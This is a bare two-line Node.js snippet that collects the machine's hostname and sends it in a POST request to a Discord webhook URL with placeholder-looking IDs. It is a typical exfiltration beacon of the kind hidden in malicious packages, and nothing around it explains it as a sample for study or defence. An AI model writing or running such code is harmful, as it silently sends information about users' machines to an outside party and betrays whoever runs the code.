const data = JSON.stringify({host: require('os').hostname()});
fetch("https://discord.com/api/webhooks/1234567890/abcdefghijklmnop", {method: "POST", body: data});
